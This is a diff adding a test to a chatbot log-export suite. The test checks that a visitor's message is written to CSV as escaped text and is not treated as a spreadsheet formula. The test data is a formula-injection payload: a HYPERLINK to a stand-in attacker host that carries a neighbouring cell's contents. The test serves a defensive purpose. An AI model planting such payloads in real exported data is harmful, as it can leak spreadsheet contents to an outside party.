@@ -278,6 +278,26 @@ describe.each(DATABASE_KINDS)('bot logs on %s', (kind) => {
     expect(parseCsv(oneKey.body.slice(1))).toHaveLength(3);
   });
 
+  it('exports what a visitor wrote as text, never as a spreadsheet formula', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&B2,"点我")';
+    const question = and(
+      eq(chatMessages.sessionId, BigInt(s.plain)),
+      eq(chatMessages.role, 'user'),
+    );
+    const [before] = await t.app.db.select().from(chatMessages).where(question);
+    await t.app.db.update(chatMessages).set({ content: formula }).where(question);
+    try {
+      const res = await s.owner.get(`${logsUrl()}/export`);
+      const asked = parseCsv(res.body.slice(1)).find(
+        (line) => line[0] === s.plain && line[5] === 'visitor',
+      );
+      // A leading quote makes Excel and WPS show the cell as typed instead of running it.
+      expect(asked?.[7]).toBe(`'${formula}`);
+    } finally {
+      await t.app.db.update(chatMessages).set({ content: before!.content }).where(question);
+    }
+  });
+
   it("shows a conversation's messages with their ratings, only to its own team", async () => {
     const res = await s.owner.get(`${logsUrl()}/${s.rated}/messages`);
     expect(res.statusCode, res.body).toBe(200);
